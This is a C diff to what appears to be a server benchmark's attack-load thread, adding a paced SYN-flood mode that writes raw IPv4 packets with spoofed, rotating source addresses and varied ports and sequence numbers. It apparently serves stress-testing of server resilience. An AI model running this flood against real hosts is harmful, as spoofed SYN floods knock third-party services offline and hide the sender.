@@ -5,6 +5,9 @@
  * paced by --attack-rate and bounded by --attack-total, so an attacker keeps
  * its pressure up the way a real one does.
  *
+ * syn-flood needs no connection: its SYNs go out of one raw socket from
+ * the scan.
+ *
  * The thread ends when the main thread sets run->attack_stop (the
  * legitimate load is over), at the hard deadline or on abort; whatever it
  * still holds then is counted open_at_end (with how long it was held) and
@@ -13,6 +16,7 @@
  */
 #include "bench/mxbench.h"
 
+#include <arpa/inet.h>
 #include <errno.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
@@ -26,7 +30,8 @@
 #define KA_SCAN_NS   (20 * 1000 * 1000ULL)
 #define KA_MAX_EV    256
 #define KA_OUT_MAX   128
-#define KA_DRAIN_MAX 16 /* reads of a zero-window socket at the end */
+#define KA_DRAIN_MAX 16	  /* reads of a zero-window socket at the end */
+#define KA_SYN_BATCH 4096 /* most SYNs per scan (20 ms) */
 
 enum ac_st {
 	AC_FREE = 0,
@@ -63,6 +68,8 @@ struct ka {
 	unsigned src_next;
 	uint64_t timeout_ns;
 	struct bench_atk_pace pace[BENCH_ATK_MODES];
+	int raw;	  /* syn-flood: raw IPv4 socket, -1: none */
+	uint64_t syn_seq; /* SYNs built */
 	char wbuf[8192];
 	char rbuf[65536];
 };
@@ -417,8 +424,39 @@ static void slow_tick(struct ka *k, struct ac *c, uint64_t now)
 	}
 }
 
+/* syn-flood: the SYNs due by @now, KA_SYN_BATCH at most. Each one has its
+ * own source port and sequence number; the spoofed sources take turns. */
+static void syn_tick(struct ka *k, uint64_t now)
+{
+	struct bench_atk_stats *st = &k->a->st[BENCH_ATK_SYN_FLOOD];
+	const struct sockaddr_in *dst = (const struct sockaddr_in *)&k->cfg->target;
+	uint8_t pkt[BENCH_ATK_SYN_LEN];
+
+	for (unsigned i = 0;
+	     i < KA_SYN_BATCH && bench_atk_pace_take(&k->pace[BENCH_ATK_SYN_FLOOD], now); i++) {
+		uint64_t n = k->syn_seq++;
+		uint16_t sport = htons((uint16_t)(1024 + (n * 7919) % 64511));
+		size_t len = bench_atk_syn_build(pkt, k->ac->syn_src[n % k->ac->nsyn_src],
+						 dst->sin_addr.s_addr, sport, dst->sin_port,
+						 (uint32_t)(n * 2654435761u), (uint16_t)n);
+
+		st->attempts++;
+		if (sendto(k->raw, pkt, len, 0, (const struct sockaddr *)dst, sizeof(*dst)) < 0) {
+			st->connect_failed++;
+			snprintf(st->last_err, sizeof(st->last_err), "raw send: %s",
+				 strerror(errno));
+			if (errno == EAGAIN || errno == ENOBUFS)
+				break;
+			continue;
+		}
+		st->bytes_sent += len;
+	}
+}
+
 static void scan(struct ka *k, uint64_t now)
 {
+	if (k->raw >= 0)
+		syn_tick(k, now);
 	for (unsigned i = 0; i < k->n; i++) {
 		struct ac *c = &k->c[i];
 
@@ -483,8 +521,9 @@ void *bench_kattack_main(void *arg)
 	k->cfg = a->cfg;
 	k->ac = &a->cfg->atk;
 	k->timeout_ns = (uint64_t)(a->cfg->timeout * 1e9);
+	k->raw = -1;
 	for (unsigned m = 0; m < BENCH_ATK_MODES; m++)
-		nmodes += !!(k->ac->modes & (1u << m));
+		nmodes += m != BENCH_ATK_SYN_FLOOD && (k->ac->modes & (1u << m));
 	k->n = nmodes * k->ac->conns;
 	k->ep = epoll_create1(EPOLL_CLOEXEC);
 	k->c = calloc(k->n ? k->n : 1, sizeof(*k->c));
@@ -497,6 +536,15 @@ void *bench_kattack_main(void *arg)
 		if (!(k->ac->modes & (1u << m)))
 			continue;
 		bench_atk_pace_init(&k->pace[m], k->ac->rate, k->ac->total, now);
+		if (m == BENCH_ATK_SYN_FLOOD) {
+			/* IPPROTO_RAW: we write the IP header (IP_HDRINCL). */
+			k->raw = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC,
+					IPPROTO_RAW);
+			if (k->raw < 0)
+				snprintf(a->st[m].last_err, sizeof(a->st[m].last_err),
+					 "raw socket (needs CAP_NET_RAW): %s", strerror(errno));
+			continue;
+		}
 		for (unsigned j = 0; j < k->ac->conns; j++, slot++) {
 			k->c[slot].fd = -1;
 			k->c[slot].mode = (enum bench_atk_mode)m;
@@ -525,6 +573,8 @@ void *bench_kattack_main(void *arg)
 	}
 	finish(k, bench_now_ns());
 out:
+	if (k->raw >= 0)
+		close(k->raw);
 	if (k->ep >= 0)
 		close(k->ep);
 	free(k->c);
